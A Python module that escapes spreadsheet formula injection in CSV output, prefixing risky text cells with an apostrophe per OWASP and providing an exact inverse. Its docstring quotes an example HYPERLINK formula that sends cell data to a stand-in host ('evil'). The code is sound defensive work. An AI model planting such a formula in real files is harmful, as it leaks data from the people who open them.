"""CSV files that are safe to open in a spreadsheet.

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula, so a requester's comment such as
`=HYPERLINK("https://evil/?d="&A2,"Open evidence")` would run on the auditor's machine. As
OWASP recommends, such cells are written with a leading `'`, which spreadsheets show as text.
A cell that already begins with `'` gets one more, so the rule can be undone exactly: remove
one leading `'` from every cell that starts with `'` followed by a trigger character or `'`.

Numbers (int, Decimal, float) are never touched: -12.50 stays a number.
"""

import csv
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")
ESCAPE = "'"
RULE = (
    "Text cells beginning with = + - @ ' tab or carriage return carry one extra leading ' "
    "(OWASP CSV injection); remove exactly one leading ' from such cells to get the value back."
)


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet may safely read it; non-text values pass unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return ESCAPE + value
    return value


def restore(cell: str) -> str:
    """The original text of a cell written by `neutralise` (the verifier's inverse)."""
    if len(cell) >= 2 and cell[0] == ESCAPE and cell[1] in TRIGGERS:
        return cell[1:]
    return cell


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class SafeWriter:
    """`csv.writer` whose every row goes through `neutralise`."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)


def writer(stream, **options) -> SafeWriter:
    return SafeWriter(stream, **options)
